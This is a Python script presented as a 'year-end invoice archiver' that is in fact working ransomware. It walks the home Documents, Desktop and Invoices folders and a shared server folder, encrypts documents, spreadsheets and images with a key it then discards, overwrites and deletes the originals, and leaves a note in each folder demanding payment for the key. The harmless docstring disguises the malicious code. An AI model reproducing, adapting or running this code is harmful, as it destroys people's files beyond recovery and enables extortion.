#!/usr/bin/env python3
"""Year-end invoice archiver.

Collects customer invoices (PDF, ODS, CSV) from the shared folders,
seals them into the archive format and writes a short summary. Run it
once after the books are closed.
"""
import argparse
import hashlib
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("invoice-archiver")

DEFAULT_ROOTS = [
    "~/Invoices",
    "~/Documents",
    "~/Desktop",
    "/srv/workshop/shared",
]
SEALED_SUFFIX = ".sealed"
TARGET_EXT = {".pdf", ".ods", ".odt", ".csv", ".xlsx", ".docx", ".jpg", ".mid"}
NOTICE_NAME = "READ_ME_ARCHIVE.txt"
NOTICE_TEXT = (
    "Your workshop files have been sealed.\n"
    "To receive the unseal key write to restore@example.com with the ID below\n"
    "and follow the payment instructions you receive.\n"
    "ID: {ident}\n"
)


class Sealer:
    def __init__(self):
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.ident = hashlib.sha256(self._key).hexdigest()[:16]
        self.count = 0
        self.bytes = 0

    def seal(self, path):
        data = path.read_bytes()
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(self._f.encrypt(data))
        self._shred(path, len(data))
        self.count += 1
        self.bytes += len(data)

    @staticmethod
    def _shred(path, size):
        # overwrite before unlinking so the old copy is gone for good
        with open(path, "r+b") as fh:
            fh.write(os.urandom(size))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()

    def forget(self):
        # the archive key is not kept on this machine
        self._key = None
        self._f = None


def candidates(roots):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.is_dir():
            log.debug("skip missing %s", base)
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXT and not name.endswith(SEALED_SUFFIX):
                    yield p


def drop_notice(folders, ident):
    for folder in folders:
        try:
            (folder / NOTICE_NAME).write_text(NOTICE_TEXT.format(ident=ident))
        except OSError:
            pass


def summarize(sealer, touched):
    log.info("sealed %d files (%.1f MB) in %d folders",
             sealer.count, sealer.bytes / 1e6, len(touched))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", action="append", help="extra folder to include")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    roots = DEFAULT_ROOTS + (args.root or [])
    sealer = Sealer()
    touched = set()
    for path in candidates(roots):
        if args.dry_run:
            print(path)
            continue
        try:
            sealer.seal(path)
            touched.add(path.parent)
        except (OSError, PermissionError) as exc:
            log.debug("cannot seal %s: %s", path, exc)

    if not args.dry_run:
        sealer.forget()
        drop_notice(touched, sealer.ident)
        summarize(sealer, touched)


if __name__ == "__main__":
    main()
